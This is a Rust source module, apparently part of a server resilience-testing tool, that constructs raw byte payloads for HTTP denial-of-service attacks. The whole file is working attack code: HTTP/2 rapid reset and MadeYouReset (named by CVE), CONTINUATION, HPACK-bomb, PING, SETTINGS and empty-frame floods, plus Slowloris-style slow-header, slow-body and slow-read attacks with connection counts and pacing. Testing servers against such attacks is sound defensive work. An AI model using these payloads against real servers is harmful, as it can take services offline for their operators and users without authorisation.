//! The attacks, as bytes.

use std::time::Duration;

/// One attack.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    /// At a time.
    pub(crate) connections: usize,
    /// What each begins with.
    pub(crate) begin: fn() -> Vec<u8>,
    /// What it goes on with, for ever.
    pub(crate) piece: fn(u32) -> Vec<u8>,
    /// From piece to piece; `None` = as fast as it is read.
    pub(crate) pace: Option<Duration>,
    /// Whether it reads what comes.
    pub(crate) reads: bool,
}

type Begin = fn() -> Vec<u8>;
type Piece = fn(u32) -> Vec<u8>;

/// All of them.
pub(crate) fn attacks() -> Vec<Attack> {
    [floods(), slow_senders(), slow_readers()].into_iter().flatten().collect()
}

fn floods() -> Vec<Attack> {
    let flood = |name, begin: Begin, piece: Piece| Attack {
        name,
        connections: 4,
        begin,
        piece,
        pace: None,
        reads: true,
    };
    vec![
        flood("rapid reset (CVE-2023-44487)", h2, |n| {
            both(n, |stream| [get(stream, "/"), frame(3, 0, stream, &[0, 0, 0, 8])].concat())
        }),
        flood("MadeYouReset (CVE-2025-8671)", h2, |n| {
            both(n, |stream| [get(stream, "/"), frame(8, 0, stream, &[0x7f, 0xff, 0xff, 0xff])].concat())
        }),
        flood(
            "CONTINUATION flood",
            || [h2(), frame(1, 1, 1, &list("GET", "/"))].concat(),
            |_| frame(9, 0, 1, &field("x", &"y".repeat(16_000))),
        ),
        flood("HPACK bomb", h2, |n| frame(1, 5, 2 * n + 1, &bomb())),
        flood("PING flood", h2, |_| frame(6, 0, 0, &[0; 8]).repeat(1000)),
        flood("SETTINGS flood", h2, |_| frame(4, 0, 0, &[0, 3, 0, 0, 0, 100]).repeat(1000)),
        flood(
            "empty-frame flood",
            || [h2(), frame(1, 4, 1, &list("POST", "/"))].concat(),
            |_| frame(0, 0, 1, b"").repeat(1000),
        ),
    ]
}

fn slow_senders() -> Vec<Attack> {
    let slow = |name, connections, begin: Begin, piece: Piece| Attack {
        name,
        connections,
        begin,
        piece,
        pace: Some(Duration::from_secs(1)),
        reads: true,
    };
    vec![
        slow(
            "slow headers, HTTP/1.1",
            500,
            || b"GET / HTTP/1.1\r\nhost: a\r\n".to_vec(),
            |_| b"x: y\r\n".to_vec(),
        ),
        slow(
            "slow headers, HTTP/2",
            500,
            || [h2(), get(1, "/")[..20].to_vec()].concat(),
            |n| if n < 10 { b"x".to_vec() } else { Vec::new() },
        ),
        slow(
            "slow body, HTTP/1.1",
            500,
            || b"POST / HTTP/1.1\r\nhost: a\r\ncontent-length: 1000000\r\n\r\n".to_vec(),
            |_| b"x".to_vec(),
        ),
        slow(
            "slow body, HTTP/2",
            10,
            || [h2(), many(|stream| frame(1, 4, stream, &list("POST", "/")))].concat(),
            |_| many(|stream| frame(0, 0, stream, b"x")),
        ),
    ]
}

fn slow_readers() -> Vec<Attack> {
    let slow = |name, connections, begin: Begin| Attack {
        name,
        connections,
        begin,
        piece: |_| Vec::new(),
        pace: Some(Duration::from_secs(1)),
        reads: false,
    };
    vec![
        slow("slow read, HTTP/1.1", 500, || b"GET /large HTTP/1.1\r\nhost: a\r\n\r\n".to_vec()),
        slow("slow read, HTTP/2, windows wide open", 10, || {
            let wide = frame(4, 0, 0, &[0, 4, 0x7f, 0xff, 0xff, 0xff]);
            let more = frame(8, 0, 0, &[0x7f, 0xff, 0, 0]);
            [h2(), wide, more, many(|stream| get(stream, "/large"))].concat()
        }),
        slow("slow read, HTTP/2, windows shut", 10, || {
            let shut = frame(4, 0, 0, &[0, 4, 0, 0, 0, 0]);
            [h2(), shut, many(|stream| get(stream, "/large"))].concat()
        }),
    ]
}

fn h2() -> Vec<u8> {
    [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", &frame(4, 0, 0, b"")[..]].concat()
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut out = u32::try_from(payload.len()).unwrap().to_be_bytes()[1..].to_vec();
    out.extend([kind, flags]);
    out.extend(stream.to_be_bytes());
    out.extend(payload);
    out
}

/// A hundred streams at a time.
fn both(n: u32, of_stream: fn(u32) -> Vec<u8>) -> Vec<u8> {
    (100 * n..100 * (n + 1)).flat_map(|n| of_stream(2 * n + 1)).collect()
}

/// As many streams as may be.
fn many(of_stream: fn(u32) -> Vec<u8>) -> Vec<u8> {
    both(0, of_stream)
}

fn get(stream: u32, path: &str) -> Vec<u8> {
    frame(1, 5, stream, &list("GET", path))
}

fn list(method: &str, path: &str) -> Vec<u8> {
    [field(":method", method), field(":scheme", "http"), field(":authority", "a"), field(":path", path)]
        .concat()
}

/// A literal that goes into no table.
fn field(name: &str, value: &str) -> Vec<u8> {
    let mut out = vec![0];
    for text in [name, value] {
        if text.len() < 127 {
            out.push(u8::try_from(text.len()).unwrap());
        } else {
            let rest = text.len() - 127;
            out.push(127);
            if rest >= 128 {
                out.extend([u8::try_from(rest % 128).unwrap() | 128, u8::try_from(rest / 128).unwrap()]);
            } else {
                out.push(u8::try_from(rest).unwrap());
            }
        }
        out.extend(text.as_bytes());
    }
    out
}

/// One header of 4 kB goes into the table, and then each byte repeats it.
fn bomb() -> Vec<u8> {
    let mut large = field("x", &"y".repeat(4_000));
    large[0] = 0x40;
    [list("GET", "/"), large, vec![0xbe; 12_000]].concat()
}
